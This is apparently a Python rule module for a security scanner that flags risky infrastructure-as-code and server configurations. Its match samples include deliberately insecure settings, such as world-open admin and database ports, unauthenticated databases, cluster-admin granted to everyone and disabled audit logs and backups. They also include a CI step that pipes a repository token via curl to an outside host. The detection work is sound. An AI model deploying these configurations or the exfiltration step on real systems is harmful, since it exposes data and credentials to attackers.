"""Documents judged by structure: Kubernetes manifests, CloudFormation and IAM/bucket
policies (YAML or JSON), Terraform (HCL) and server configuration files.

Each `DocRule` names judges; a judge reads the parsed document (`Doc`) and returns
one short evidence line per risky thing it found (names and values only, never a
secret). The same kind of risk is one rule whatever the format: a security group open
to the internet on port 22 is `doc.network_open` in Terraform, CloudFormation or a
Kubernetes Service alike. Benign look-alikes (a CIDR like 10.0.0.0/8, a view-only role
for one user, read-only actions, `PermitRootLogin no`) are in each rule's `not_match`.
"""

from __future__ import annotations

from bot.risk.packs import (
    iac_hooks,
    iac_lists,
    iac_pipeline,
    iac_reach,
    iac_state,
    iac_storage,
    iac_switches,
)
from bot.risk.packs.docmodel import Doc, DocRule, mappings
from bot.risk.packs.iac_judges import JUDGES as _JUDGES

JUDGES = {
    **_JUDGES,
    **iac_reach.JUDGES,
    **iac_state.JUDGES,
    **iac_hooks.JUDGES,
    **iac_lists.JUDGES,
    **iac_pipeline.JUDGES,
    **iac_storage.JUDGES,
    **iac_switches.JUDGES,
}

__all__ = ["JUDGES", "RULES", "Doc", "DocRule", "mappings"]


# ---------------------------------------------------------------- the rules

_CRB_OPEN = """apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: everyone-admin
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
- apiGroup: rbac.authorization.k8s.io
  kind: Group
  name: system:authenticated
"""
_RB_VIEW = """apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata:
  name: jane-view
  namespace: dev
roleRef:
  kind: ClusterRole
  name: view
  apiGroup: rbac.authorization.k8s.io
subjects:
- kind: User
  name: jane@acme.example
  apiGroup: rbac.authorization.k8s.io
"""
_SG_CFN = """AWSTemplateFormatVersion: '2010-09-09'
Resources:
  DbSecurityGroup:
    Type: AWS::EC2::SecurityGroup
    Properties:
      GroupDescription: db
      VpcId: !Ref Vpc
      SecurityGroupIngress:
        - IpProtocol: tcp
          FromPort: {port}
          ToPort: {port}
          CidrIp: {cidr}
"""
_SG_TF = """resource "aws_security_group" "db" {{
  name   = "db"
  vpc_id = aws_vpc.main.id
  ingress {{
    from_port   = {port}
    to_port     = {port}
    protocol    = "tcp"
    cidr_blocks = ["{cidr}"]
  }}
}}
"""
_NETPOL = """apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: ingress
  namespace: payments
spec:
  podSelector: {{}}
  ingress:
{rule}
"""
_POLICY_JSON = """{{
  "Version": "2012-10-17",
  "Statement": [{{"Effect": "Allow", "Action": {action}, "Resource": "*"}}]
}}"""
_BUCKET_POLICY = """{{
  "Version": "2012-10-17",
  "Statement": [{{
    "Sid": "Read",
    "Effect": "Allow",
    "Principal": {principal},
    "Action": "s3:GetObject",
    "Resource": "arn:aws:s3:::acme-exports/*"
  }}]
}}"""

RULES: tuple[DocRule, ...] = (
    DocRule(
        "doc.k8s_broad_binding",
        "permissions",
        "critical",
        "require_approval",
        "A Kubernetes role binding that gives every authenticated user, every service account "
        "or anonymous callers a role, or gives someone cluster-admin over the whole cluster.",
        ("k8s_binding",),
        match=(
            _CRB_OPEN,
            _CRB_OPEN.replace("system:authenticated", "system:serviceaccounts").replace(
                "cluster-admin", "edit"
            ),
            'resource "kubernetes_cluster_role_binding" "all" {\n'
            '  metadata { name = "all" }\n'
            '  role_ref {\n    kind = "ClusterRole"\n    name = "cluster-admin"\n'
            '    api_group = "rbac.authorization.k8s.io"\n  }\n'
            '  subject {\n    kind = "Group"\n    name = "system:authenticated"\n'
            '    api_group = "rbac.authorization.k8s.io"\n  }\n}\n',
        ),
        not_match=(_RB_VIEW, _RB_VIEW.replace("view", "edit")),
    ),
    DocRule(
        "doc.k8s_wildcard_role",
        "permissions",
        "high",
        "require_approval",
        "A Kubernetes role allowing every verb on every resource, or the verbs that let its "
        "holder grant itself more (escalate, bind, impersonate).",
        ("k8s_wildcard_role",),
        match=(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n"
            "  name: god\nrules:\n- apiGroups: ['*']\n  resources: ['*']\n  verbs: ['*']\n",
        ),
        not_match=(
            "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata:\n  name: reader\n"
            "  namespace: dev\nrules:\n- apiGroups: ['']\n  resources: ['pods', 'pods/log']\n"
            "  verbs: ['get', 'list', 'watch']\n",
        ),
    ),
    DocRule(
        "doc.k8s_host_access",
        "security_controls",
        "high",
        "require_approval",
        "A pod that gets the node's powers (privileged, host network, host PID/IPC, the host's "
        "root filesystem or container socket): whoever runs in it controls the node.",
        ("k8s_host_access", "k8s_pod_security_off"),
        match=(
            "apiVersion: v1\nkind: Pod\nmetadata:\n  name: debug\nspec:\n  hostPID: true\n"
            "  containers:\n  - name: sh\n    image: alpine\n    securityContext:\n"
            "      privileged: true\n",
            "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: agent\nspec:\n"
            "  template:\n    spec:\n      hostNetwork: true\n      containers:\n"
            "      - name: a\n        image: agent:1\n      volumes:\n      - name: root\n"
            "        hostPath:\n          path: /\n",
            "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: ci\n  labels:\n"
            "    pod-security.kubernetes.io/enforce: privileged\n",
        ),
        not_match=(
            "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n"
            "  - name: web\n    image: nginx\n    securityContext:\n      privileged: false\n"
            "      runAsNonRoot: true\n  volumes:\n  - name: logs\n    hostPath:\n"
            "      path: /var/log/web\n",
        ),
    ),
    DocRule(
        "doc.network_open",
        "permissions",
        "critical",
        "require_approval",
        "A firewall or security-group rule that opens an admin or database port (SSH, RDP, "
        "PostgreSQL, MySQL, Redis, …) or every port to the whole internet.",
        ("network_open", "k8s_open_service", "compose_open_port", "k8s_open_ingress"),
        match=(
            _SG_CFN.format(port=5432, cidr="0.0.0.0/0"),
            _SG_TF.format(port=22, cidr="0.0.0.0/0"),
            'resource "google_compute_firewall" "ssh" {\n  name = "ssh"\n  network = "default"\n'
            '  allow {\n    protocol = "tcp"\n    ports = ["22", "3389"]\n  }\n'
            '  source_ranges = ["0.0.0.0/0"]\n}\n',
            'resource "azurerm_network_security_rule" "rdp" {\n  name = "rdp"\n'
            '  direction = "Inbound"\n  access = "Allow"\n  protocol = "Tcp"\n'
            '  source_address_prefix = "*"\n  destination_port_range = "3389"\n}\n',
            "apiVersion: v1\nkind: Service\nmetadata:\n  name: redis\nspec:\n"
            "  type: LoadBalancer\n  ports:\n  - port: 6379\n",
            'services:\n  redis:\n    image: redis:7\n    ports:\n      - "0.0.0.0:6379:6379"\n',
            "services:\n  db:\n    image: postgres:16\n    ports:\n      - target: 5432\n"
            "        published: 5432\n        host_ip: 0.0.0.0\n",
            'services:\n  db:\n    image: mysql:8\n    ports:\n      - "[::]:3306:3306/tcp"\n',
            _NETPOL.format(rule="  - {}"),
            _NETPOL.format(rule="  - from:\n    - ipBlock:\n        cidr: 0.0.0.0/0"),
        ),
        not_match=(
            _SG_CFN.format(port=5432, cidr="10.0.0.0/8"),
            _SG_CFN.format(port=443, cidr="0.0.0.0/0"),
            _SG_TF.format(port=22, cidr="10.0.0.0/8"),
            _SG_TF.format(port=443, cidr="0.0.0.0/0"),
            "apiVersion: v1\nkind: Service\nmetadata:\n  name: redis\nspec:\n"
            "  type: ClusterIP\n  ports:\n  - port: 6379\n",
            'services:\n  redis:\n    image: redis:7\n    ports:\n      - "127.0.0.1:6379:6379"\n',
            'services:\n  web:\n    image: nginx\n    ports:\n      - "0.0.0.0:443:443"\n',
            'services:\n  redis:\n    image: redis:7\n    expose:\n      - "6379"\n',
            _NETPOL.format(rule="  - from:\n    - podSelector:\n        matchLabels: {app: api}"),
            _NETPOL.format(rule="  - ports:\n    - port: 443"),
        ),
    ),
    DocRule(
        "doc.policy_all_actions",
        "permissions",
        "critical",
        "require_approval",
        'An IAM policy that allows every action ("Action": "*" or an Allow with NotAction): '
        "whoever holds it can do anything, including granting themselves more.",
        ("all_actions",),
        match=(
            _POLICY_JSON.format(action='"*"'),
            'data "aws_iam_policy_document" "admin" {\n  statement {\n'
            '    actions   = ["*"]\n    resources = ["*"]\n  }\n}\n',
            'resource "aws_iam_policy" "p" {\n  policy = jsonencode({\n'
            '    Version = "2012-10-17"\n    Statement = [{ Effect = "Allow", Action = "*",'
            ' Resource = "*" }]\n  })\n}\n',
        ),
        not_match=(
            _POLICY_JSON.format(action='["s3:GetObject", "s3:ListBucket"]'),
            '{"Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}]}',
        ),
    ),
    DocRule(
        "doc.policy_public",
        "permissions",
        "critical",
        "require_approval",
        'A bucket or resource policy that lets anyone on the internet in ("Principal": "*", '
        "allUsers, a public ACL, the public-access block off).",
        ("public_principal",),
        match=(
            _BUCKET_POLICY.format(principal='"*"'),
            _BUCKET_POLICY.format(principal='{"AWS": "*"}'),
            "bindings:\n- members:\n  - allUsers\n  role: roles/storage.objectViewer\n",
            'resource "google_storage_bucket_iam_member" "pub" {\n  bucket = "exports"\n'
            '  role = "roles/storage.objectViewer"\n  member = "allUsers"\n}\n',
            'resource "aws_s3_bucket_public_access_block" "b" {\n  bucket = "exports"\n'
            "  block_public_acls = false\n  block_public_policy = false\n}\n",
        ),
        not_match=(
            _BUCKET_POLICY.format(principal='{"AWS": "arn:aws:iam::123456789012:role/reader"}'),
            "bindings:\n- members:\n  - user:jane@acme.example\n  role: roles/viewer\n",
            'resource "aws_s3_bucket_public_access_block" "b" {\n  bucket = "exports"\n'
            "  block_public_acls = true\n  block_public_policy = true\n}\n",
        ),
    ),
    DocRule(
        "doc.backups_off",
        "destructive",
        "high",
        "require_approval",
        "Turns off a database's backups or point-in-time recovery (in its resource, or a "
        "chart's or operator's backup switch), or a bucket's versioning: after the next "
        "mistake there is nothing to restore from.",
        ("backups_off", "backup_settings_off"),
        match=(
            "Resources:\n  Db:\n    Type: AWS::RDS::DBInstance\n    Properties:\n"
            "      Engine: postgres\n      BackupRetentionPeriod: 0\n",
            'resource "aws_db_instance" "main" {\n  engine = "postgres"\n'
            "  backup_retention_period = 0\n}\n",
            'resource "google_sql_database_instance" "db" {\n  settings {\n'
            "    backup_configuration {\n      enabled = false\n    }\n  }\n}\n",
            "3. Delete the snapshot policy: `DELETE _slm/policy/nightly-snapshots`",
            "cluster:\n  instances: 3\nbackups:\n  enabled: false\n  retentionPolicy: 30d\n",
            "spec:\n  backup:\n    pitr:\n      enabled: false\n  disableBackups: true\n",
            "apiVersion: postgresql.cnpg.io/v1\nkind: ScheduledBackup\nmetadata:\n  name: d\n"
            "spec:\n  schedule: '0 0 2 * * *'\n  suspend: true\n  cluster:\n    name: pg\n",
            "apiVersion: velero.io/v1\nkind: Schedule\nmetadata:\n  name: nightly\n"
            "spec:\n  schedule: '0 3 * * *'\n  paused: true\n",
            "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata:\n  name: pg\n"
            "spec:\n  instances: 3\n  backup: null\n",
        ),
        not_match=(
            "Resources:\n  Db:\n    Type: AWS::RDS::DBInstance\n    Properties:\n"
            "      Engine: postgres\n      BackupRetentionPeriod: 14\n",
            'resource "aws_db_instance" "main" {\n  engine = "postgres"\n'
            "  backup_retention_period = 7\n}\n",
            "3. Look at the snapshot policy: `GET _slm/policy/nightly-snapshots`",
            "cluster:\n  instances: 3\nbackups:\n  enabled: true\n  retentionPolicy: 30d\n",
            'resource "aws_db_instance" "main" {\n  engine = "postgres"\n'
            "  backup_retention_period = 7\n  copy_tags_to_snapshot = false\n}\n",
            "apiVersion: postgresql.cnpg.io/v1\nkind: ScheduledBackup\nmetadata:\n  name: d\n"
            "spec:\n  schedule: '0 0 2 * * *'\n  suspend: false\n  cluster:\n    name: pg\n",
            "apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: report\n"
            "spec:\n  schedule: '0 3 * * *'\n  suspend: true\n",
        ),
    ),
    DocRule(
        "doc.database_public",
        "permissions",
        "high",
        "require_approval",
        "Makes a managed database reachable from the whole internet.",
        ("database_public",),
        match=(
            'resource "aws_db_instance" "main" {\n  engine = "mysql"\n'
            "  publicly_accessible = true\n}\n",
            "Resources:\n  Db:\n    Type: AWS::RDS::DBInstance\n    Properties:\n"
            "      PubliclyAccessible: true\n",
        ),
        not_match=(
            'resource "aws_db_instance" "main" {\n  engine = "mysql"\n'
            "  publicly_accessible = false\n}\n",
        ),
    ),
    DocRule(
        "doc.login_open",
        "security_controls",
        "high",
        "require_approval",
        "An SSH server configuration that allows root logins or password logins: it becomes "
        "a target for password guessing, and root needs no second step.",
        ("login_open",),
        match=(
            "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\n",
            "PasswordAuthentication yes",
        ),
        not_match=(
            "Port 22\nPermitRootLogin no\nPasswordAuthentication no\n",
            "PermitRootLogin prohibit-password",
        ),
    ),
    DocRule(
        "doc.service_unauthenticated",
        "security_controls",
        "critical",
        "require_approval",
        "A database or cache configured to listen on every address with authentication off: "
        "anyone who reaches it can read or change the data.",
        ("service_unauthenticated",),
        match=(
            "[mysqld]\nbind-address = 0.0.0.0\nskip-grant-tables\n",
            "bind 0.0.0.0\nprotected-mode no\nport 6379\n",
            "net:\n  port: 27017\n  bindIp: 0.0.0.0\nsecurity:\n  authorization: disabled\n",
            "host    all    all    0.0.0.0/0    trust\n",
            "network.host: 0.0.0.0\nxpack.security.enabled: false\n",
            "One way would be to set `network.host: 0.0.0.0` and `xpack.security.enabled: false`.",
            'Add `"hosts": ["tcp://0.0.0.0:2375", "unix:///var/run/docker.sock"]` to daemon.json',
            "auth:\n  enabled: false\nservice:\n  type: LoadBalancer\n",
            "usePassword: false\nmaster:\n  service:\n    type: NodePort\n",
        ),
        not_match=(
            "[mysqld]\nbind-address = 127.0.0.1\n",
            "bind 127.0.0.1\nprotected-mode yes\n",
            "net:\n  port: 27017\n  bindIp: 0.0.0.0\nsecurity:\n  authorization: enabled\n",
            "host    all    all    10.0.0.0/8    scram-sha-256\n",
            "Keep `network.host` on the private interface and `xpack.security.enabled: true`.",
            "Set `DOCKER_HOST=ssh://builder@build-01.internal` and leave the unix socket.",
            "auth:\n  enabled: true\nservice:\n  type: LoadBalancer\n",
            "auth:\n  enabled: false\nservice:\n  type: ClusterIP\n",
            "auth:\n  enabled: false\nservice:\n  type: LoadBalancer\n"
            "  loadBalancerSourceRanges: [10.0.0.0/8]\n",
        ),
    ),
    DocRule(
        "doc.audit_off",
        "security_controls",
        "high",
        "require_approval",
        "Turns off audit logging or threat detection (CloudTrail, GuardDuty, AWS Config, "
        "Defender, a Kubernetes audit policy): what happens next is no longer recorded or "
        "watched.",
        ("audit_off",),
        match=(
            "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: None\n",
            "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: None\n"
            "    verbs: []\n  - level: Metadata\n",
            'resource "aws_cloudtrail" "org" {\n  name = "org-trail"\n'
            "  enable_logging = false\n}\n",
            'resource "aws_guardduty_detector" "main" {\n  enable = false\n}\n',
            "Resources:\n  Trail:\n    Type: AWS::CloudTrail::Trail\n    Properties:\n"
            "      IsLogging: false\n",
        ),
        not_match=(
            "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: None\n"
            "    resources:\n      - group: ''\n        resources: ['events']\n"
            "  - level: Metadata\n",
            "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n  - level: Metadata\n",
            'resource "aws_cloudtrail" "org" {\n  name = "org-trail"\n  enable_logging = true\n}\n',
        ),
    ),
    DocRule(
        "doc.branch_protection_weak",
        "security_controls",
        "high",
        "require_approval",
        "Branch protection that lets anyone force-push over or delete the protected branch: "
        "shared history can be rewritten or lost.",
        ("branch_protection_weak",),
        match=(
            'resource "github_branch_protection" "main" {\n  pattern = "main"\n'
            "  allows_force_pushes = true\n}\n",
            '{"required_status_checks": null, "enforce_admins": false, '
            '"allow_force_pushes": true, "allow_deletions": true}',
            '{"name": "main", "target": "branch", "enforcement": "disabled", '
            '"rules": [{"type": "non_fast_forward"}]}',
        ),
        not_match=(
            'resource "github_branch_protection" "main" {\n  pattern = "main"\n'
            "  allows_force_pushes = false\n  allows_deletions = false\n}\n",
            '{"enforce_admins": true, "allow_force_pushes": false, "allow_deletions": false}',
            '{"name": "main", "target": "branch", "enforcement": "active", '
            '"rules": [{"type": "non_fast_forward"}]}',
        ),
    ),
    DocRule(
        "doc.destroy_guard_off",
        "destructive",
        "high",
        "require_approval",
        "Sets force_destroy on a storage bucket, DeletionPolicy Delete on a CloudFormation "
        "data store, or count = 0 on a production module or a data store: the next apply, "
        "destroy or replacement deletes it instead of stopping or keeping a snapshot.",
        ("destroy_guard_off", "count_zero"),
        match=(
            'resource "aws_s3_bucket" "docs" {\n  bucket = "docs-prod"\n'
            "  force_destroy = true\n}\n",
            "Resources:\n  OrdersDB:\n    Type: AWS::RDS::DBInstance\n    DeletionPolicy: Delete\n",
            'module "core" {\n  source = "./modules/region"\n  count  = 0\n'
            '  cluster_name = "core-prod-euw1"\n}\n',
            'resource "aws_db_instance" "orders" {\n  count = 0\n  engine = "postgres"\n}\n',
        ),
        not_match=(
            'resource "aws_s3_bucket" "docs" {\n  bucket = "docs-prod"\n  force_destroy = false\n'
            "  lifecycle {\n    prevent_destroy = true\n  }\n}\n",
            "Resources:\n  OrdersDB:\n    Type: AWS::RDS::DBInstance\n"
            "    DeletionPolicy: Snapshot\n  Queue:\n    Type: AWS::SQS::Queue\n"
            "    DeletionPolicy: Delete\n",
            'module "core" {\n  source = "./modules/region"\n  count  = 0\n'
            '  cluster_name = "sandbox-omar-euw1"\n}\n',
            'module "core" {\n  source = "./modules/region"\n  count  = var.enabled ? 1 : 0\n'
            '  cluster_name = "core-prod-euw1"\n}\n',
        ),
    ),
    DocRule(
        "doc.gitops_prune_all",
        "destructive",
        "high",
        "require_approval",
        "An automated GitOps sync allowed to prune everything when its source is empty: one "
        "bad commit deletes every resource it manages.",
        ("gitops_prune_all",),
        match=(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: prod\n"
            "spec:\n  syncPolicy:\n    automated:\n      prune: true\n      allowEmpty: true\n",
        ),
        not_match=(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: prod\n"
            "spec:\n  syncPolicy:\n    automated:\n      prune: true\n      selfHeal: true\n",
        ),
    ),
    DocRule(
        "doc.account_full_access",
        "permissions",
        "high",
        "require_approval",
        "A resource policy that gives a whole other AWS account every action on the resource: "
        "anyone in that account can read, change or delete it.",
        ("account_full_access",),
        match=(
            '{"Statement": [{"Effect": "Allow", "Principal": {"AWS": '
            '"arn:aws:iam::777766665555:root"}, "Action": "s3:*", "Resource": "*"}]}',
        ),
        not_match=(
            '{"Statement": [{"Effect": "Allow", "Principal": {"AWS": '
            '"arn:aws:iam::111122223333:role/reader"}, "Action": "s3:GetObject", '
            '"Resource": "arn:aws:s3:::reports/*"}]}',
        ),
    ),
    DocRule(
        "doc.replication_external",
        "exfiltration",
        "high",
        "require_approval",
        "Replicates a bucket into a bucket of another AWS account: every object is copied out "
        "of the company's control.",
        ("replication_external",),
        match=(
            '{"Role": "arn:aws:iam::210987654321:role/r", "Rules": [{"Status": "Enabled", '
            '"Destination": {"Bucket": "arn:aws:s3:::vendor", "Account": "444455556666"}}]}',
        ),
        not_match=(
            '{"Role": "arn:aws:iam::210987654321:role/r", "Rules": [{"Status": "Enabled", '
            '"Destination": {"Bucket": "arn:aws:s3:::dr", "Account": "210987654321"}}]}',
        ),
    ),
    DocRule(
        "doc.kubeconfig_credentials",
        "secrets",
        "critical",
        "require_approval",
        "A kubeconfig holding a user's live credentials (a token, a client key, a password): "
        "whoever reads the message can act on the cluster as that user.",
        ("kubeconfig_credentials",),
        match=(
            "apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://k8s:6443\n"
            "  name: prod\nusers:\n- name: admin\n  user:\n"
            "    token: eyJhbGciOiJSUzI1NiJ9.e30.FAKE\n",
        ),
        not_match=(
            "apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://k8s:6443\n"
            "  name: prod\nusers:\n- name: me\n  user:\n    exec:\n"
            "      apiVersion: client.authentication.k8s.io/v1\n      command: ravenctl\n",
        ),
    ),
    DocRule(
        "doc.sync_external",
        "exfiltration",
        "high",
        "require_approval",
        "A data sync that copies a table of people (customers, users, payments) or every "
        "column to a destination outside the company: a vendor, an agency, a shared sheet.",
        ("sync_external",),
        match=(
            "source: mysql-prod\nstreams:\n  - name: users\ndestination:\n  type: gsheets\n"
            "  spreadsheet: campaign-agency-shared\n",
            '{"sourceId": "crm-prod", "destinationId": "sftp-partner-drop", '
            '"streams": [{"name": "contacts"}]}',
            "origen:\n  tipo: mysql\n  tabla: pedidos\n  columnas: '*'\ndestino:\n"
            "  tipo: sftp\n  host: ftp.logistica-sur.example.com\n",
        ),
        not_match=(
            "source: mysql-prod\nstreams:\n  - name: daily_totals\ndestination:\n"
            "  type: gsheets\n  spreadsheet: campaign-agency-shared\n",
            '{"sourceId": "crm-prod", "destinationId": "snowflake-analytics", '
            '"streams": [{"name": "contacts"}]}',
            "origen:\n  tipo: mysql\n  tabla: pedidos\n  columnas: '*'\ndestino:\n"
            "  tipo: sftp\n  host: sftp.interno.logistica.example.com\n",
            "source: ./src\ndestination: ./dist\nusers: 3\n",
        ),
    ),
    DocRule(
        "doc.binding_outsider",
        "permissions",
        "high",
        "require_approval",
        "An IAM binding that gives an owner, editor or admin role to an account outside the "
        "company (a personal address or another domain), or any role to a personal mailbox.",
        ("binding_outsider",),
        match=(
            "bindings:\n- members:\n  - user:ops@acme.example\n  - user:freelancer@gmail.com\n"
            "  role: roles/editor\n",
            "bindings:\n- members:\n  - user:friend@gmail.com\n  role: roles/viewer\n",
            '{"access": [{"role": "READER", "userByEmail": "someone.agency@gmail.com"}]}',
        ),
        not_match=(
            "bindings:\n- members:\n  - user:ops@acme.example\n  role: roles/editor\n",
            '{"access": [{"role": "READER", "groupByEmail": "analysts@acme.example"}]}',
            "bindings:\n- members:\n  - group:analysts@acme.example\n  role: roles/viewer\n",
        ),
    ),
    DocRule(
        "doc.ci_secret_exposed",
        "secrets",
        "high",
        "require_approval",
        "A CI step prints a repository secret into an encoder or a network program: the "
        "value leaves the secret store (encoded past the log masking, or sent out).",
        ("ci_secret_exposed",),
        match=(
            'jobs:\n  dump:\n    steps:\n      - run: echo "${{ secrets.PROD_DB_PASSWORD }}"'
            " | base64\n",
            "steps:\n  - run: |\n      npm ci\n      echo ${{ secrets.NPM_TOKEN }} | curl -s -X"
            " POST --data-binary @- https://hooks.example.net/x\n",
        ),
        not_match=(
            "steps:\n  - run: npm publish\n    env:\n"
            "      NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
            'steps:\n  - run: echo "${{ secrets.REGISTRY_PASSWORD }}" | docker login ghcr.io'
            " -u bot --password-stdin\n",
            'steps:\n  - run: echo "deploying ${{ github.sha }}" | tee deploy.log\n',
        ),
    ),
    DocRule(
        "doc.secret_default",
        "secrets",
        "high",
        "require_approval",
        "A Terraform variable named like a secret carries the secret itself as its default: "
        "the value is committed with the code and readable by everyone with the repository.",
        ("secret_default",),
        match=(
            'variable "db_password" {\n  type    = string\n  default = "Qm4!zR8t#Lw2pX6v"\n}\n',
        ),
        not_match=(
            'variable "db_password" {\n  type      = string\n  sensitive = true\n}\n',
            'variable "db_password" {\n  default = "changeme"\n}\n',
            'variable "token_ttl" {\n  default = "3600s"\n}\n',
        ),
    ),
    DocRule(
        "doc.web_exposed",
        "sharing",
        "high",
        "require_approval",
        "A web server configuration lists the files of a path holding backups, dumps or "
        "exports, or serves an admin tool's path, to everyone (no deny, login or private "
        "address range in front of it), or opens an admin area to every address in so many "
        "words (`allow all`, `Require all granted`).",
        ("web_exposed",),
        match=(
            "server {\n  listen 80;\n  location /backups/ {\n    alias /var/backups/;\n"
            "    autoindex on;\n  }\n}\n",
            "<Directory /srv/exports>\n  Options +Indexes\n  Require all granted\n</Directory>\n",
            "server {\n  location /phpmyadmin {\n    proxy_pass http://127.0.0.1:8080;\n  }\n}\n",
            "server {\n  location /admin/ {\n    allow all;\n"
            "    proxy_pass http://127.0.0.1:9000;\n  }\n}\n",
            "server {\n  listen 0.0.0.0:9443 ssl;\n  location /admin/ {\n"
            "    proxy_pass http://127.0.0.1:9000;\n  }\n}\n",
            "frontend admin\n    bind 0.0.0.0:8443\n    default_backend admin_srv\n",
            "listen stats\n    bind *:8404\n    stats enable\n    stats uri /stats\n",
        ),
        not_match=(
            "server {\n  listen 80;\n  location /backups/ {\n    deny all;\n"
            "    autoindex off;\n  }\n}\n",
            "server {\n  location /downloads/ {\n    root /srv/public;\n"
            "    autoindex on;\n  }\n}\n",
            "server {\n  location /phpmyadmin {\n    allow 10.0.0.0/8;\n    deny all;\n"
            "    proxy_pass http://127.0.0.1:8080;\n  }\n}\n",
            "<Directory /srv/exports>\n  Options -Indexes\n  Require all denied\n</Directory>\n",
            "server {\n  location /admin/ {\n    allow 10.20.0.0/16;\n    deny all;\n"
            "    proxy_pass http://127.0.0.1:9000;\n  }\n}\n",
            "server {\n  location /admin/ {\n    proxy_pass http://127.0.0.1:9000;\n  }\n}\n",
            "server {\n  listen 127.0.0.1:9443 ssl;\n  location /admin/ {\n"
            "    proxy_pass http://127.0.0.1:9000;\n  }\n}\n",
            "frontend admin\n    bind 10.0.3.1:8443\n    default_backend admin_srv\n",
            "listen stats\n    bind *:8404\n    stats enable\n    stats auth ops:${STATS_PW}\n",
            "frontend www\n    bind 0.0.0.0:443 ssl crt /etc/ssl/site.pem\n"
            "    default_backend web\n",
        ),
    ),
    DocRule(
        "doc.admin_policy",
        "permissions",
        "critical",
        "require_approval",
        "Attaches an administrator policy (AWS AdministratorAccess or IAMFullAccess) or "
        "assigns an Azure Owner or User Access Administrator role: its holder can do "
        "anything, including granting itself more.",
        ("admin_policy",),
        match=(
            'resource "aws_iam_user_policy_attachment" "c" {\n  user = aws_iam_user.c.name\n'
            '  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n',
            "Resources:\n  Role:\n    Type: AWS::IAM::Role\n    Properties:\n"
            "      ManagedPolicyArns:\n        - arn:aws:iam::aws:policy/AdministratorAccess\n",
            'resource "azurerm_role_assignment" "a" {\n  scope = var.sub\n'
            '  role_definition_name = "Owner"\n  principal_id = var.group\n}\n',
        ),
        not_match=(
            'resource "aws_iam_user_policy_attachment" "c" {\n  user = aws_iam_user.c.name\n'
            '  policy_arn = "arn:aws:iam::aws:policy/ReadOnlyAccess"\n}\n',
            'resource "azurerm_role_assignment" "a" {\n  scope = var.sub\n'
            '  role_definition_name = "Reader"\n  principal_id = var.group\n}\n',
        ),
    ),
    *iac_reach.RULES,
    *iac_state.RULES,
    *iac_hooks.RULES,
    *iac_lists.RULES,
    *iac_pipeline.RULES,
    *iac_storage.RULES,
    *iac_switches.RULES,
)
